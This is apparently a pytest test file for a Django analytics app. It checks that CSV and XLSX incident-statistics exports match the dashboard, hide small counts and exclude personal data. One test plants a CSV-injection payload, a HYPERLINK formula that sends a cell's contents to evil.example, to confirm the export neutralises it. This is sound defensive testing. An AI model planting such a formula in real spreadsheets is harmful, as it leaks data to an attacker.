"""CSV and XLSX (`analytics/exports.py`) carry exactly the dashboard's figures, hidden cells included, and no person.
The PDF: test_pdf.py."""

import csv
import io
import re

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from analytics import charts
from analytics.periods import Period
from analytics.selectors.filters import Filters
from analytics.selectors.statistics import statistics_for
from analytics.snapshot import snapshot_refresh
from facilities.models import Facility

pytestmark = pytest.mark.django_db

JULY = "?period=2025-07"


@pytest.fixture
def english(client, analyst):
    client.cookies["django_language"] = "en"
    client.force_login(analyst)
    return client


def csv_rows(client, query=JULY) -> list[list[str]]:
    response = client.get(reverse("analytics:export_csv") + query)
    assert response.streaming
    assert response["Content-Type"].startswith("text/csv")
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def test_csv_has_the_dashboard_tables_with_the_same_hidden_cells(english, known_data):
    rows = csv_rows(english)
    stats = statistics_for(Filters(Period.parse("2025-07")))
    body = [row for row in rows[1:] if len(row) == 8]
    expected = [
        [t.title, "Incidents" if t.key == "trend" else r.label, r.current.text, r.previous.text]
        for t in stats.tables
        for r in t.rows
    ]
    assert [[row[0], row[1], row[4], row[6]] for row in body[: len(expected)]] == expected
    facility = {row[1]: row for row in body if row[0] == "By facility"}
    assert facility["Children's B"][4] == "<3"
    # The total is hidden, or B's 1 would be total minus Hospital A (5, shown).
    assert facility["Hospital A"][4] == "5"
    assert facility["Incidents"][4] == "x"
    assert not any(cell in {"1", "2"} for row in body for cell in (row[4], row[6]))


def test_csv_and_xlsx_exports_draw_no_chart(english, known_data, monkeypatch):
    def refuse_to_draw(table):
        raise AssertionError(f"a chart was drawn for {table.key}")

    monkeypatch.setattr(charts, "bar_chart", refuse_to_draw)
    # Control: the dashboard shows charts, so with the chart module refusing it fails; the exports show none.
    with pytest.raises(AssertionError, match="a chart was drawn"):
        english.get(reverse("analytics:dashboard") + JULY)
    rows = csv_rows(english)
    assert ["By facility", "Hospital A"] in [row[:2] for row in rows]
    response = english.get(reverse("analytics:export_xlsx") + JULY)
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)), read_only=True)
    assert len(list(workbook.worksheets[0].iter_rows(values_only=True))) == len([row for row in rows if len(row) == 8])


HEADER = [
    "table",
    "category",
    "unit",
    "period",
    "count",
    "period a year earlier",
    "count a year earlier",
    "change, %",
]
PERIOD_LABEL = re.compile(r"^(\d{4})(-\d{2})?$")


def check_columns(header: list[str], body: list[list], stats) -> list[dict]:
    """Every figure row has the right kind of value under each header; returns the rows as dicts."""
    assert header == HEADER
    records = []
    for line in body:
        record = dict(
            zip(
                ["table", "category", "unit", "period", "count", "earlier", "earlier_count", "change"],
                line,
                strict=True,
            )
        )
        records.append(record)
        match = PERIOD_LABEL.match(str(record["period"]))
        assert match, record
        earlier = Period.parse(record["period"]).year_earlier().label
        assert record["earlier"] == earlier, record
        assert record["unit"] in ("incidents", "victims", "minutes", "days"), record
        assert not PERIOD_LABEL.match(str(record["category"])), record
    trend = [r for r in records if r["table"] == "Incidents per period"]
    assert [r["period"] for r in trend] == [p.label for p in stats.filters.period.trend()]
    assert {r["category"] for r in trend} == {"Incidents"} and {r["unit"] for r in trend} == {"incidents"}
    return records


def test_every_csv_row_has_its_values_under_the_right_headers(english, known_data, settings):
    settings.QORGAU_STATS_MIN_CELL = 1
    rows = csv_rows(english)
    stats = statistics_for(Filters(Period.parse("2025-07")))
    body = [row for row in rows[1:] if len(row) == 8]
    records = check_columns(rows[0], body, stats)
    trend = {r["period"]: r for r in records if r["table"] == "Incidents per period"}
    assert (trend["2025-07"]["count"], trend["2025-07"]["earlier_count"]) == ("6", "1")
    assert (trend["2025-06"]["count"], trend["2025-06"]["earlier_count"]) == ("1", "0")
    assert trend["2024-12"]["count"] == "0"
    by_part = {r["category"]: r for r in records if r["table"] == "By Article 380-3 part"}
    assert by_part["Part 1"]["period"] == "2025-07" and by_part["Part 1"]["count"] == "3"


def test_every_xlsx_row_has_its_values_under_the_right_headers(english, known_data, settings):
    settings.QORGAU_STATS_MIN_CELL = 1
    response = english.get(reverse("analytics:export_xlsx") + JULY)
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)), read_only=True)
    sheet = [["" if v is None else v for v in row] for row in workbook.worksheets[0].iter_rows(values_only=True)]
    stats = statistics_for(Filters(Period.parse("2025-07")))
    records = check_columns(sheet[0], sheet[1:], stats)
    trend = {r["period"]: r for r in records if r["table"] == "Incidents per period"}
    assert (trend["2025-07"]["count"], trend["2025-07"]["earlier_count"]) == (6, 1)


def test_csv_and_its_filters(english, known_data, south):
    rows = csv_rows(english, f"{JULY}&district={south.pk}")
    assert ["District", "South"] in rows


def test_csv_has_no_personal_data(english, known_data, personal_data):
    text = "\n".join(",".join(row) for row in csv_rows(english))
    assert "Hospital A" in text  # the check below reads the real export
    for value in personal_data:
        assert value not in text, value


def test_xlsx_has_the_same_cells_as_the_csv(english, known_data, personal_data):
    response = english.get(reverse("analytics:export_xlsx") + JULY)
    assert response["Content-Disposition"].startswith('attachment; filename="qorgau-statistics-2025-07.xlsx"')
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)), read_only=True)
    sheet = [[("" if v is None else str(v)) for v in row] for row in workbook.worksheets[0].iter_rows(values_only=True)]
    assert sheet[1:] == [row for row in csv_rows(english)[1:] if len(row) == 8]
    flat = " ".join(" ".join(row) for row in sheet)
    assert "<3" in flat
    for value in personal_data:
        assert value not in flat, value


def test_a_name_that_looks_like_a_formula_is_plain_text_in_csv_and_xlsx(english, known_data):
    """A facility named "=HYPERLINK(…)" must not become a live formula (OWASP CSV injection)."""
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
    Facility.objects.filter(name_en="Hospital A").update(name_en=hostile)
    snapshot_refresh()
    cells = [cell for row in csv_rows(english) for cell in row]
    assert "'" + hostile in cells and hostile not in cells

    response = english.get(reverse("analytics:export_xlsx") + JULY)
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    values = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    shown = [cell for cell in values if hostile in str(cell.value)]
    assert shown and all(cell.data_type == "s" and str(cell.value).startswith("'=") for cell in shown)
    # Figures stay numbers.
    assert any(cell.data_type == "n" for cell in values)


def test_csv_headers_are_unique_and_its_figures_are_numbers(english, known_data, settings):
    """Issue 11: a spreadsheet reads each column by its header (two "count" columns were one), and sums, sorts and
    charts the figures only when they are numbers: a change of "+25%" or a time of "1 h 05 min" is text."""
    settings.QORGAU_STATS_MIN_CELL = 1
    rows = csv_rows(english)
    header, body = rows[0], [row for row in rows[1:] if len(row) == 8]
    assert len(set(header)) == len(header)
    numeric = re.compile(r"^-?\d+$")
    for row in body:
        for value in (row[4], row[6], row[7]):
            assert value == "" or numeric.match(value), row
    timings = {(row[0], row[1]): row for row in body if row[0].startswith("Report to")}
    assert timings[("Report to acknowledgement", "median")][2] == "minutes"
    assert timings[("Report to ERDR registration", "median")][2] == "days"
    by_part = {row[1]: row for row in body if row[0] == "By Article 380-3 part"}
    assert by_part["Part 1"][7] in ("", "—") or numeric.match(by_part["Part 1"][7])


def test_xlsx_figures_are_numbers(english, known_data, settings):
    settings.QORGAU_STATS_MIN_CELL = 1
    response = english.get(reverse("analytics:export_xlsx") + JULY)
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)), read_only=True)
    sheet = list(workbook.worksheets[0].iter_rows(values_only=True))
    assert len(set(sheet[0])) == len(sheet[0])
    for row in sheet[1:]:
        for value in (row[4], row[6], row[7]):
            assert value is None or isinstance(value, int), row
    medians = [row for row in sheet if row[1] == "median"]
    assert medians and all(isinstance(row[4], int) for row in medians if row[4] is not None)
